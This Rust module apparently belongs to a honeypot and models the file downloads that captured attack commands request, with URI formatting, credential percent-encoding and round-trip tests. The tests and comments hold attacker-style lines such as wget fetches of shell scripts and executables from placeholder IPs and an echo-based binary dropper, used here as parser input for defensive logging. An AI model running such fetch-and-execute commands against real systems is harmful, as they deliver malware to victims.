//! A download request: what an attack string asks its victim to fetch (docs/COMPATIBILITY.md,
//! Downloads). Produced by the pure extractor (`super::extract`), consumed by the download
//! clients (`super::download`). Replaces the host/port/user/pass/file variables the C plugins
//! (htm_ftpDownload.c, htm_tftpDownload.c, htm_httpDownload.c) parsed each for themselves.
//!
//! Every field is attacker-controlled text: the clients bound and check it, and storage
//! sanitises `filename` before it becomes part of a path.

/// The transfer a command asks for.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Scheme {
    Ftp,
    Tftp,
    Http,
    Https,
    /// A file the attack writes itself (`echo -ne '\x7f\x45…' >> f`, `printf`): nothing to
    /// fetch, the bytes are in `Request::data`.
    Inline,
}

impl Scheme {
    /// The `dl_type` word of the attack record and logs: `ftp`, `tftp`, `http`, `https`,
    /// `inline`.
    pub fn name(self) -> &'static str {
        match self {
            Scheme::Ftp => "ftp",
            Scheme::Tftp => "tftp",
            Scheme::Http => "http",
            Scheme::Https => "https",
            Scheme::Inline => "inline",
        }
    }

    /// The server port used when the command names none.
    pub fn default_port(self) -> u16 {
        match self {
            Scheme::Ftp => 21,
            Scheme::Tftp => 69,
            Scheme::Http => 80,
            Scheme::Https => 443,
            Scheme::Inline => 0,
        }
    }
}

/// One file an attack string asks for.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Request {
    pub scheme: Scheme,
    /// Server as written: a DNS name, a dotted IPv4 address or an IPv6 address without
    /// brackets. Empty for `Inline`.
    pub host: String,
    /// Server port if the command names one; `None` means `scheme.default_port()`.
    pub port: Option<u16>,
    pub user: Option<String>,
    pub pass: Option<String>,
    /// What to ask the server for: the FTP `RETR` argument, the TFTP file name, or the HTTP
    /// request target (absolute path with query, starting with `/`). Empty for `Inline`.
    pub path: String,
    /// The name the victim would store the file under (the command's output name, else the
    /// last path component). Untrusted: storage sanitises it.
    pub filename: String,
    /// The file's bytes for `Inline`; empty otherwise.
    pub data: Vec<u8>,
}

impl Request {
    /// A request for `path` on `host` (and `port`, `None` for the scheme's default) with no
    /// credentials, local name or data.
    pub fn new(scheme: Scheme, host: &str, port: Option<u16>, path: &str) -> Request {
        Request {
            scheme,
            host: host.into(),
            port,
            user: None,
            pass: None,
            path: path.into(),
            filename: String::new(),
            data: Vec::new(),
        }
    }

    /// The port to connect to.
    pub fn port_or_default(&self) -> u16 {
        self.port.unwrap_or(self.scheme.default_port())
    }

    /// A URI naming the request for the attack record and the logs:
    /// `ftp://user:pass@host:port/path`, `tftp://host/file`, `http://host:port/path`; IPv6
    /// hosts in brackets; the default port left out. `inline:<filename>` for inline files.
    /// An FTP or TFTP path is what follows the `/` after the server, so an absolute one
    /// (`/etc/passwd`) shows as `ftp://host//etc/passwd`, which reads back the same.
    pub fn uri(&self) -> String {
        if self.scheme == Scheme::Inline {
            return format!("inline:{}", self.filename);
        }
        let mut s = format!("{}://", self.scheme.name());
        if let Some(u) = &self.user {
            push_userinfo(&mut s, u, false);
            if let Some(p) = &self.pass {
                s.push(':');
                push_userinfo(&mut s, p, true);
            }
            s.push('@');
        }
        if self.host.contains(':') {
            s.push('[');
            s.push_str(&self.host);
            s.push(']');
        } else {
            s.push_str(&self.host);
        }
        if let Some(p) = self.port.filter(|&p| p != self.scheme.default_port()) {
            s.push(':');
            s.push_str(&p.to_string());
        }
        if !matches!(self.scheme, Scheme::Http | Scheme::Https) || !self.path.starts_with('/') {
            s.push('/');
        }
        s.push_str(&self.path);
        s
    }
}

/// Appends a user name (or, `pass`, a password) as the userinfo of a URI: every byte but
/// RFC 3986's unreserved characters and sub-delimiters (and `:` in a password)
/// percent-encoded, so that a decoded `/`, `@` or `?` in it cannot move the host when the
/// URI is read again (by a fetch program, or by whoever reads the record).
fn push_userinfo(s: &mut String, text: &str, pass: bool) {
    crate::text::push_percent_encoded(s, text.as_bytes(), |b| {
        b.is_ascii_alphanumeric() || b"-._~!$&'()*+,;=".contains(&b) || (pass && b == b':')
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(scheme: Scheme, host: &str, port: Option<u16>, path: &str) -> Request {
        Request::new(scheme, host, port, path)
    }

    #[test]
    fn uris() {
        let mut r = req(Scheme::Ftp, "1.2.3.4", Some(21), "evil.exe");
        assert_eq!(r.uri(), "ftp://1.2.3.4/evil.exe");
        r.user = Some("foo".into());
        r.pass = Some("bar".into());
        r.port = Some(2121);
        assert_eq!(r.uri(), "ftp://foo:bar@1.2.3.4:2121/evil.exe");
        r.user = Some("a/b@c:d e".into());
        r.pass = Some("p:@/%".into());
        assert_eq!(r.uri(), "ftp://a%2Fb%40c%3Ad%20e:p:%40%2F%25@1.2.3.4:2121/evil.exe");
        assert_eq!(req(Scheme::Http, "2001:db8::1", Some(8080), "/a?b").uri(), "http://[2001:db8::1]:8080/a?b");
        assert_eq!(req(Scheme::Tftp, "h", None, "x").uri(), "tftp://h/x");
        assert_eq!(req(Scheme::Tftp, "h", None, "x").port_or_default(), 69);
        // Absolute FTP and TFTP paths keep their own slash (the URL parser takes the one
        // after the server away); HTTP paths are always absolute.
        assert_eq!(req(Scheme::Ftp, "h", None, "/etc/passwd").uri(), "ftp://h//etc/passwd");
        assert_eq!(req(Scheme::Tftp, "h", None, "/srv/x").uri(), "tftp://h//srv/x");
        assert_eq!(req(Scheme::Http, "h", None, "/etc/passwd").uri(), "http://h/etc/passwd");
        let mut i = req(Scheme::Inline, "", None, "");
        i.filename = "dvrHelper".into();
        assert_eq!(i.uri(), "inline:dvrHelper");
    }

    /// Found by the `url` fuzz target: `ftp://host/%2Fetc/pass` asks for the absolute path
    /// `/etc/pass`, but its URI read `ftp://host/etc/pass`, the relative path `etc/pass`.
    #[test]
    fn uris_read_back_as_the_same_request() {
        use crate::pipeline::extract::extract;
        for url in [
            "ftp://anonymous@192.0.2.4/%2Fetc/pass",
            "ftp://192.0.2.4//pub/x.exe",
            "ftp://u:p@192.0.2.4:2121/pub/x.exe",
            "tftp://192.0.2.4//srv/mips",
            "tftp://192.0.2.4/mips",
            "http://192.0.2.4:8080/a/b.sh?x=1",
            // A decoded `/` or `@` in the user or password is encoded again: the URI of
            // `ftp://an/x@192.0.2.4/y` would name the server `an`.
            "ftp://an%2Fx@192.0.2.4/y",
            "http://127.0.0.1%2F:p%40ss%3Fw@192.0.2.4/y.sh",
        ] {
            let first = extract(format!("wget {url}").as_bytes());
            assert_eq!(first.len(), 1, "{url}");
            let again = extract(format!("wget {}", first[0].uri()).as_bytes());
            assert_eq!(again, first, "{url} -> {}", first[0].uri());
        }
    }
}
